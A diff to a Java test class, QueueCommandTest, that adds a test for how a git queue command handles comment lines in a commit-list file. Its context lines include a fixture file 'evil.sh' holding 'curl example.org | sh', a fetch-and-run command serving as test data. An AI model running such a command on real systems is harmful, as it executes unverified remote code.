@@ -119,6 +119,18 @@ class QueueCommandTest {
         world.write("repo/evil.sh", "curl example.org | sh\n").commit("merge");
     }
 
+    @Test
+    void remarksInAListOfCommitsAreSkipped() {
+        String id = world.git("rev-parse", "HEAD");
+        world.write("c", "# the last\n" + id + "\n  # no more\n");
+        assertThat(queue("--commits", world.at("c").toString()).out()).contains("1 change");
+
+        world.write("c", id + " # the last\n");
+        assertThat(queue("--commits", world.at("c").toString()).code()).isEqualTo(ExitCode.USAGE.code());
+        world.write("c", "# none\n");
+        assertThat(queue("--commits", world.at("c").toString()).err()).contains("lists no commit");
+    }
+
     private World.Run queue(String... arguments) {
         return world.run(world.command("queue", arguments));
     }
